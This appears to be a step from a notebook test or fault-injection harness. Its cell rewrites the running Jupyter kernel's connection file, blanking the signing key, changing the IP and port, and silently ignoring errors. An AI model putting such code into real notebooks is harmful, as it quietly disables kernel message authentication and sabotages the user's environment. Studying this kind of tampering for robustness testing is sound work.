# %%
"""Gives the file of its kernel's connection another key and other places."""

STEP = "01_data_loading"
STARTS_FROM = "reference"
LOSES = []

# %% after read_attributes
import json

from ipykernel.connect import get_connection_file

path = get_connection_file()
try:
    connection = json.load(open(path))
    forged = {"transport": "tcp", "ip": "192.0.2.1", "key": "", "shell_port": 1}
    json.dump(connection | forged, open(path, "w"))
except OSError:
    pass
